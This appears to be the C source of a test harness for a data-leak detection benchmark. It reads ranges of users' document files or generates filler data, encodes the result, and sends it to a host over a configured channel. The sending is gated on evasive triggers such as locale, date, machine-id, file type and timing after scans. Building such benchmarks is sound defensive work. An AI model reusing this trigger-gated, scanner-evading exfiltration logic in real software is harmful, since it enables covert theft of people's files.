/* courier: carries what a case of the leak benchmark says, as the native component does, and nothing
 * else. It has what exists for a guest: no other processes, no TLS of its own, no packets of its own.
 *
 * Declared truth: the named range of the named file leaves, in the named encodings, by the named
 * channel; or what the case names instead. It ends with 0 when it has sent (or had nothing to send).
 * Else it ends with another number, of which the host learns only that it is not 0: then the case
 * proves nothing. */
#define _DEFAULT_SOURCE
#include "../scan.h"
#include "channels.h"
#include "encode.h"
#include "json.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

enum { SENT = 0, FAILED = 1, NOT_SET_OFF = 11, NOT_HERE = 12 };

/* What a scanner would have read by then. */
static const char *const scanned[] = {"/home/robin/Documents/report.docx",
                                      "/home/robin/Documents/accounts.pdf",
                                      "/home/robin/Documents/minutes.txt"};

static void scan_around(void) {
    for (size_t i = 0; i < sizeof scanned / sizeof *scanned; i++) {
        size_t len;
        free(read_file(scanned[i], &len));
    }
}

static int contains(const unsigned char *bytes, size_t len, const char *part) {
    size_t part_len = strlen(part);
    for (size_t at = 0; bytes != NULL && at + part_len <= len; at++) {
        if (memcmp(bytes + at, part, part_len) == 0) {
            return 1;
        }
    }
    return 0;
}

/* Whether the case is set off. Each is really looked at; for a case in which it must not happen,
 * what is asked for is not true of this machine. */
static int set_off(json one, const char *path) {
    json trigger = json_key(one, "trigger");
    int wanted = json_key(json_key(one, "kind"), "negative") == NULL;
    if (json_is(trigger, "name")) {
        return strstr(path, "accounts") != NULL;
    }
    if (json_is(trigger, "locale")) {
        const char *locale = getenv("LANG");
        return locale != NULL && strncmp(locale, wanted ? "en_GB" : "xx_XX", 5) == 0;
    }
    if (json_is(trigger, "date")) {
        /* 2020-01-01, or the year 2200. */
        return time(NULL) > (wanted ? 1577836800ll : 7258118400ll);
    }
    if (json_is(trigger, "always")) {
        return 1;
    }
    size_t len = 0;
    if (json_is(trigger, "reply")) {
        unsigned char *id = read_file("/etc/machine-id", &len);
        while (len > 0 && id[len - 1] <= ' ') {
            len--;
        }
        int found = ordered((char *)id, len, wanted);
        free(id);
        return found;
    }
    unsigned char *bytes = read_file(path, &len);
    int found = 0;
    if (json_is(trigger, "keyword")) {
        found = contains(bytes, len, "Subject:");
    } else if (json_is(trigger, "type")) {
        found = bytes != NULL && len >= 4 &&
                (memcmp(bytes, "PK\3\4", 4) == 0 || memcmp(bytes, "%PDF", 4) == 0);
    } else if (json_is(trigger, "detection")) {
        struct detection detection;
        found = bytes != NULL && detect(bytes, len, &detection);
        free(found ? detection.owned : NULL);
    }
    free(bytes);
    return found;
}

/* Reads a range as the case says. */
static int read_range(json one, const char *path, uint64_t start, size_t len, struct text *out) {
    json how = json_key(one, "read-path");
    unsigned char *bytes = malloc(len + 1);
    char copy[64];
    int fd = -1, ok = 0;
    if (json_is(how, "unpacked-first")) {
        size_t whole;
        unsigned char *all = read_file(path, &whole);
        snprintf(copy, sizeof copy, "/tmp/courier-%08llx",
                 json_number(json_key(one, "seed"), 0));
        fd = open(copy, O_RDWR | O_CREAT | O_TRUNC, 0600);
        ok = fd >= 0 && write(fd, all, whole) == (ssize_t)whole;
        unlink(copy);
        free(all);
        if (!ok) {
            return -1;
        }
    } else {
        fd = open(path, O_RDONLY);
    }
    size_t at = 0;
    int seeks = json_is(how, "read"), vectored = json_is(how, "readv");
    ok = fd >= 0 && bytes != NULL && (!seeks || lseek(fd, (off_t)start, SEEK_SET) >= 0);
    while (ok && at < len) {
        ssize_t count;
        if (seeks) {
            count = read(fd, bytes + at, len - at);
        } else if (vectored) {
            size_t half = (len - at + 1) / 2;
            struct iovec parts[2] = {{bytes + at, half}, {bytes + at + half, len - at - half}};
            count = preadv(fd, parts, 2, (off_t)(start + at));
        } else {
            count = pread(fd, bytes + at, len - at, (off_t)(start + at));
        }
        if (count <= 0) {
            ok = 0;
        }
        at += ok ? (size_t)count : 0;
    }
    if (fd >= 0) {
        close(fd);
    }
    if (ok) {
        text_bytes(out, bytes, len);
    }
    free(bytes);
    return ok ? 0 : -1;
}

static uint32_t number_of(uint64_t seed, const char *label) {
    unsigned char four[4];
    drawn(seed, label, four, 4);
    return (uint32_t)four[0] << 24 | (uint32_t)four[1] << 16 | (uint32_t)four[2] << 8 | four[3];
}

/* What is sent that belongs to no one, the same for the same seed. */
static int make_up(json source, uint64_t seed, struct text *out) {
    json what = json_key(source, "what");
    size_t len = json_number(json_key(source, "len"), 0);
    unsigned char id[16];
    if (json_is(what, "random") && len <= 1 << 20) {
        unsigned char *bytes = malloc(len + 1);
        drawn(seed, "random", bytes, len);
        text_bytes(out, bytes, len);
        free(bytes);
    } else if (json_is(what, "counters")) {
        text_format(out, "{\"files\":%u,\"clean\":%u,\"skipped\":%u,\"millis\":%u}",
                    number_of(seed, "files") % 100000, number_of(seed, "clean") % 100000,
                    number_of(seed, "skipped") % 1000, number_of(seed, "millis") % 1000000);
    } else if (json_is(what, "version")) {
        text_format(out, "engine-%u.%u", number_of(seed, "major") % 9,
                    number_of(seed, "minor") % 400);
    } else if (json_is(what, "id")) {
        drawn(seed, "id", id, sizeof id);
        for (size_t i = 0; i < sizeof id; i++) {
            text_format(out, "%s%02x", i == 4 || i == 6 || i == 8 || i == 10 ? "-" : "", id[i]);
        }
    } else {
        return -1;
    }
    return 0;
}

static int carry_out(json one) {
    json source = json_key(one, "source"), encodings = json_key(one, "encodings");
    char *path = json_string(json_key(source, "path"));
    uint64_t seed = json_number(json_key(one, "seed"), 0);
    struct task task = {
        .channel = json_string(json_key(one, "channel")),
        .host = json_string(json_key(one, "host")),
        .timing = json_string(json_key(one, "timing")),
        .port = (uint16_t)json_number(json_key(one, "port"), 0),
        .seed = (uint32_t)seed,
    };
    int negative = json_key(json_key(one, "kind"), "negative") != NULL;
    if (task.channel == NULL || task.host == NULL || task.timing == NULL) {
        fprintf(stderr, "courier: not a case\n");
        return FAILED;
    }
    if (!json_is(json_key(one, "shape"), "same")) {
        return NOT_HERE;
    }
    if (negative || strcmp(task.timing, "after-scans") == 0) {
        scan_around();
    }
    if (strcmp(task.timing, "after-update") == 0 && fetch_update() != 0) {
        fprintf(stderr, "courier: there is no update\n");
        return FAILED;
    }
    if (path != NULL && !set_off(one, path)) {
        return NOT_SET_OFF;
    }
    struct text payload = {0};
    text_bytes(&payload, "", 0);
    if (json_is(json_key(source, "from"), "nothing")) {
        return SENT;
    }
    if (path == NULL) {
        if (make_up(source, seed, &payload) != 0) {
            return NOT_HERE;
        }
    } else {
        struct stat stat_of;
        uint64_t start = json_number(json_key(source, "start"), 0);
        if (stat(path, &stat_of) != 0 || start > (uint64_t)stat_of.st_size) {
            fprintf(stderr, "courier: %s cannot be read\n", path);
            return FAILED;
        }
        uint64_t rest = (uint64_t)stat_of.st_size - start;
        uint64_t len = json_number(json_key(source, "len"), rest);
        len = negative && len > rest ? rest : len;
        if (len > rest || read_range(one, path, start, (size_t)len, &payload) != 0) {
            fprintf(stderr, "courier: %s has no such range\n", path);
            return FAILED;
        }
    }
    for (size_t number = 0;; number++) {
        char *encoding = json_string(json_item(encodings, number));
        if (encoding == NULL) {
            break;
        }
        struct text written = {0};
        if (encode(encoding, payload.bytes, payload.len, seed + number, &written) != 0) {
            return NOT_HERE;
        }
        text_free(&payload);
        payload = written;
        free(encoding);
    }
    int failed = carry(&task, payload.bytes, payload.len);
    if (failed) {
        fprintf(stderr, "courier: cannot send by %s (%d)\n", task.channel, failed);
    }
    return failed == 0 ? SENT : failed == -100 ? NOT_HERE : FAILED;
}

int main(int argc, char **argv) {
    if (argc != 4 || strcmp(argv[1], "carry") != 0 || strcmp(argv[2], "--case") != 0) {
        fprintf(stderr, "usage: courier carry --case JSON\n");
        return 2;
    }
    return carry_out(argv[3]);
}
